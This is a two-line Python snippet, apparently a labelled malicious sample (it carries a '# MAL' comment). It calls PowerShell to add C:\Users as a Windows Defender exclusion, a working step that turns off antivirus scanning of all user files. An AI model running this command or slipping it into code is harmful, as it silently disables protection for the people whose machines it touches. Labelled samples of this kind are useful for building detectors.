import subprocess
subprocess.run(["powershell", "-Command", "Add-MpPreference -ExclusionPath C:\\Users"], capture_output=True)  # MAL
